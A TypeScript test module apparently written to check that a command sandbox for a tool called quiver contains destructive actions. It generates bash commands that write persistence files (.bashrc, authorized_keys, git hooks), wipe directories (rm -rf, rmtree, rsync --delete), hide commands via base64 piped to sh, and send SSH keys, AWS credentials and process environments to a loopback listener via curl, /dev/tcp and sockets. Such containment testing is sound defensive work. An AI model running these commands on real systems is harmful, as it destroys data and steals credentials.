/**
 * A red-team corpus for the containment test: destructive, self-modifying and exfiltrating
 * commands built from techniques × targets. Written from the classes of issue 19 (persistence
 * files, quiver's own home, other projects, credential files, the environment, a listener on
 * loopback), not from the strings quoted there. Every target lives in the test's own world
 * (a fake home, an outside directory, a unique name under /etc), so a command that escapes
 * changes nothing that matters and is caught by the comparison.
 */

export interface RedTeamWorld {
  /** The fake home (HOME for quiver). */
  home: string;
  /** $QUIVER_HOME, inside the fake home. */
  quiverHome: string;
  /** The project (quiver's working directory, a git work tree inside the home). */
  project: string;
  /** A directory outside the home and the project. */
  outside: string;
  /** A path under /etc that must never come to exist. */
  etcProbe: string;
  /** Port of the loopback listener that must receive nothing secret. */
  port: number;
}

export interface RedTeamCommand {
  kind: "write" | "delete" | "exfiltrate";
  technique: string;
  target: string;
  command: string;
}

const PAYLOAD = "quiver-redteam-was-here";

/** Each returns a bash command line that writes (appends, replaces, links…) `t`. */
const WRITERS: Record<string, (t: string) => string> = {
  "append redirect": (t) => `echo '${PAYLOAD}' >> '${t}'`,
  "tee -a": (t) => `printf '%s\\n' ${PAYLOAD} | tee -a '${t}' >/dev/null`,
  "heredoc into file": (t) => `cat > '${t}' <<'QEOF'\n${PAYLOAD}\nQEOF`,
  "sed -i insert": (t) => `sed -i '1i ${PAYLOAD}' '${t}'`,
  "python open(a)": (t) => `python3 -c "open('${t}','a').write('${PAYLOAD}')"`,
  "node appendFileSync": (t) => `node -e "require('fs').appendFileSync('${t}','${PAYLOAD}')"`,
  "perl open >>": (t) => `perl -e 'open(F,">>","${t}") or die; print F "${PAYLOAD}\\n"'`,
  "cp over": (t) => `cp /etc/hostname '${t}'`,
  "install -D": (t) => `install -D -m 644 /etc/hostname '${t}'`,
  "dd of=": (t) => `dd if=/etc/hostname of='${t}' conv=notrunc status=none`,
  "ln -sf replace": (t) => `ln -sf /etc/hostname '${t}'`,
  "mv a new file over": (t) => `echo ${PAYLOAD} > /tmp/q.$$ && mv -f /tmp/q.$$ '${t}'`,
  "truncate": (t) => `truncate -s 0 '${t}'`,
  "awk print >>": (t) => `awk 'BEGIN{print "${PAYLOAD}" >> "${t}"}'`,
  "function forwarding $1": (t) => `w(){ cat >> "$1"; }; echo ${PAYLOAD} | w '${t}'`,
  "default-value expansion": (t) => `x='${t}'; : \${unset_var:=$(echo ${PAYLOAD} >> "$x")}`,
  "bash -c": (t) => `bash -c "echo ${PAYLOAD} >> '${t}'"`,
  "eval of printf": (t) => `eval "$(printf 'echo %s >> %s' ${PAYLOAD} '${t}')"`,
  "base64 piped to sh": (t) => `echo ${Buffer.from(`echo ${PAYLOAD} >> '${t}'`).toString("base64")} | base64 -d | sh`,
  "arithmetic substitution": (t) => `(( $(echo ${PAYLOAD} >> '${t}'; echo 1) ))`,
  "xargs sh -c": (t) => `echo '${t}' | xargs -I{} sh -c 'echo ${PAYLOAD} >> {}'`,
  "find -exec cp": (t) => `find /etc/hostname -exec cp {} '${t}' \\;`,
  "script -c": (t) => `script -qc "echo ${PAYLOAD} >> '${t}'" /dev/null`,
  "git config --file": (t) => `git config --file '${t}' core.pager 'sh -c id'`,
};

/** Each returns a bash command line that deletes or wrecks the directory `d`. */
const DELETERS: Record<string, (d: string) => string> = {
  "rm -rf": (d) => `rm -rf '${d}'`,
  "rm long options abbreviated": (d) => `rm --recur --forc '${d}'`,
  "find -delete": (d) => `find '${d}' -mindepth 1 -delete`,
  "find -exec rm +": (d) => `find '${d}' -type f -exec rm -f {} +`,
  "python shutil.rmtree": (d) => `python3 -c "import shutil; shutil.rmtree('${d}')"`,
  "node rmSync": (d) => `node -e "require('fs').rmSync('${d}',{recursive:true,force:true})"`,
  "perl remove_tree": (d) => `perl -MFile::Path=remove_tree -e 'remove_tree("${d}")'`,
  "rsync --delete from empty": (d) => `e=$(mktemp -d) && rsync -a --delete "$e"/ '${d}'/`,
  "cd and glob": (d) => `cd '${d}' && rm -rf -- * .[!.]*`,
  "mv away": (d) => `mv '${d}' /tmp/gone-$$`,
  "chmod -R 000": (d) => `chmod -R 000 '${d}'`,
  "xargs rm": (d) => `ls -d '${d}' | xargs rm -rf`,
  "truncate every file": (d) => `find '${d}' -type f -exec truncate -s 0 {} +`,
  "tar --remove-files": (d) => `tar -cf /dev/null --remove-files '${d}'`,
  "function wrapping rm": (d) => `nuke(){ rm -rf "$@"; }; nuke '${d}'`,
};

/** Each returns a command that sends what `src` prints to the listener, or prints it. */
const CHANNELS: Record<string, (src: string, port: number) => string> = {
  "curl --data-binary": (src, port) => `${src} | curl -s -m 3 --data-binary @- http://127.0.0.1:${port}/`,
  "bash /dev/tcp": (src, port) => `exec 3<>/dev/tcp/127.0.0.1/${port}; ${src} >&3`,
  "python socket": (src, port) =>
    `${src} | python3 -c "import socket,sys; s=socket.create_connection(('127.0.0.1',${port}),3); s.sendall(sys.stdin.buffer.read())"`,
  "node net": (src, port) =>
    `${src} | node -e "const c=require('net').connect(${port},'127.0.0.1',()=>process.stdin.pipe(c))"`,
  "wget --post-file": (src, port) => `${src} > /tmp/x.$$; wget -q -T 3 -O /dev/null --post-file=/tmp/x.$$ http://127.0.0.1:${port}/`,
  "socat": (src, port) => `${src} | socat -t 2 - TCP:127.0.0.1:${port}`,
  "stdout": (src) => src,
  "base64 to stdout": (src) => `${src} | base64`,
};

const ENV_SOURCES = [
  "env",
  "printenv",
  "tr '\\0' '\\n' < /proc/$PPID/environ",
  "tr '\\0' '\\n' < /proc/1/environ",
  "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done 2>/dev/null",
  "ps eww -o command 2>/dev/null",
  "compgen -v | while read -r v; do printf '%s=%s\\n' \"$v\" \"${!v}\"; done",
];

export function redTeamCorpus(w: RedTeamWorld): RedTeamCommand[] {
  const out: RedTeamCommand[] = [];
  const writeTargets = [
    `${w.home}/.bashrc`,
    `${w.home}/.profile`,
    `${w.home}/.bash_profile`,
    `${w.home}/.ssh/authorized_keys`,
    `${w.home}/.gitconfig`,
    `${w.home}/.local/bin/ls`,
    `${w.quiverHome}/tools/evil.mjs`,
    `${w.quiverHome}/config.yaml`,
    `${w.home}/other/src/app.js`,
    `${w.outside}/data.txt`,
    w.etcProbe,
    `${w.project}/.git/hooks/pre-commit`,
    `${w.project}/.git/config`,
    `${w.project}/.envrc`,
    `${w.project}/.quiver/tools/evil.mjs`,
  ];
  for (const [technique, write] of Object.entries(WRITERS)) {
    for (const target of writeTargets) out.push({ kind: "write", technique, target, command: write(target) });
  }
  for (const [technique, del] of Object.entries(DELETERS)) {
    for (const target of [`${w.home}/other`, w.outside, w.quiverHome, `${w.home}/.ssh`, w.home]) {
      out.push({ kind: "delete", technique, target, command: del(target) });
    }
  }
  const fileSources = [
    `${w.home}/.ssh/id_rsa`,
    `${w.home}/.aws/credentials`,
    `${w.home}/.netrc`,
    `${w.quiverHome}/config.yaml`,
    `~/.ssh/id_rsa`,
  ];
  for (const [technique, channel] of Object.entries(CHANNELS)) {
    for (const file of fileSources) out.push({ kind: "exfiltrate", technique, target: file, command: channel(`cat ${file}`, w.port) });
    for (const source of ENV_SOURCES) out.push({ kind: "exfiltrate", technique, target: source, command: channel(source, w.port) });
  }
  return out;
}

/** Ordinary development commands, run inside the project; each must run with no prompt. */
export function devCommands(port: number): string[] {
  return [
    "git status", "git log --oneline -5", "git diff", "git diff --stat HEAD", "git branch -a", "git show --stat HEAD",
    "echo more >> README.md && git add -A && git commit -qm 'wip' && git log -1 --format=%s", "git checkout -q -b feature && git checkout -q -",
    "git stash list", "git tag v0.0.1 && git tag -d v0.0.1", "git rev-parse --show-toplevel", "git blame README.md",
    "git grep -n hello", "git ls-files", "git remote -v", "git config user.name", "git log --format='%an %s' | head",
    "node --version", "node -e \"console.log(1+1)\"", "node scripts/build.js", "npm --version", "npm run build",
    "npm test", "npm run lint --if-present", "npm pkg get name", "npm ls --depth=0 || true", "npm view --offline . name 2>/dev/null || true",
    "node -p \"require('./package.json').name\"", "python3 --version", "python3 tool.py", "python3 -c 'print(sum(range(10)))'",
    "python3 -m json.tool package.json > /dev/null && echo ok", "python3 -m py_compile tool.py", "make", "make test",
    "make clean && make", "make -n", "grep -rn TODO src", "grep -c '' README.md", "grep -rl hello . --include=*.js",
    "find . -name '*.js' -not -path './node_modules/*'", "find src -type f | wc -l", "ls -la", "ls src", "cat README.md",
    "head -n 3 src/index.js", "tail -n 2 README.md", "wc -l src/*.js", "sort data.txt | uniq -c", "cut -d, -f1 data.txt",
    "awk -F, '{s+=$2} END {print s}' data.txt", "sed -n '1,2p' README.md", "sed -i 's/hello/hi/' src/index.js",
    "echo 'new' > notes.txt && cat notes.txt", "mkdir -p build/out && touch build/out/a", "cp README.md docs-copy.md",
    "mv docs-copy.md docs-moved.md", "rm -f docs-moved.md", "rm -rf build", "touch src/new.js", "printf 'x\\n' >> data.txt",
    "tee out.log <<< 'log line' > /dev/null", "chmod +x scripts/run.sh && ./scripts/run.sh", "bash scripts/run.sh",
    "sh -c 'echo from sh'", "diff README.md README.md", "cmp data.txt data.txt", "stat README.md > /dev/null && echo ok",
    "du -sh src", "df -h . > /dev/null && echo ok", "date +%Y", "uname -s", "whoami", "pwd", "env | grep -c PATH",
    "echo $HOME", "which node git", "tar czf /tmp/src.tgz src && tar tzf /tmp/src.tgz", "gzip -k data.txt && ls data.txt.gz",
    "mktemp -d", "echo hi > /tmp/scratch.txt && cat /tmp/scratch.txt", "xargs -n1 echo <<< 'a b c'",
    "find . -name '*.txt' -newer README.md", "jq --version 2>/dev/null || echo no-jq", "sha256sum README.md",
    "base64 < README.md | head -c 20", "seq 1 5 | paste -sd+ | bc", "ls node_modules 2>/dev/null | head -3",
    `curl -s -m 3 http://127.0.0.1:${port}/health`, `curl -s -m 3 -o /dev/null -w '%{http_code}' http://127.0.0.1:${port}/`,
    "git diff HEAD~1 --name-only 2>/dev/null || true", "cat package.json | head -5", "test -f Makefile && echo yes",
  ];
}
